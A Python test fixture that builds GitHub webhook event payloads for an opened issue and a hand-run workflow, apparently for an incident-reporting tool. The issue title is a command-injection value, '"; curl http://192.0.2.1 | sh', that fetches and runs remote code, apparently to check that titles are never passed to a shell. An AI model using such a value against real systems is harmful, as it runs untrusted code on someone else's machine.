"""Events as GitHub writes them: an issue opened by form, a workflow run by hand."""

import json
from typing import Any

from caifeng.form_fields import LABELS

ADDRESS = "https://github.com/lanchuan/desk/issues/12"


def body(**fields: str) -> str:
    """An issue's body as the form renders it."""
    return "\n\n".join(f"### {label}\n\n{fields.get(key) or '_No response_'}" for key, label in LABELS.items())


def issue(text: str, login: str = "lihang", **changes: Any) -> bytes:
    """The event of an issue that was opened with that body; ``changes`` are of the issue."""
    opened = {
        "number": 12,
        "title": '[案件] "; curl http://192.0.2.1 | sh',
        "body": text,
        "author_association": "MEMBER",
        "created_at": "2026-11-20T01:30:00Z",
        "html_url": ADDRESS,
        "labels": [{"name": "caifeng-incident"}],
        "user": {"login": login},
    }
    return json.dumps({"action": "opened", "issue": opened | changes, "sender": {"login": login}}).encode()


def dispatch(login: str = "lihang", **inputs: Any) -> bytes:
    """The event of a workflow that was run by hand."""
    return json.dumps({"inputs": inputs, "sender": {"login": login}, "ref": "refs/heads/main"}).encode()
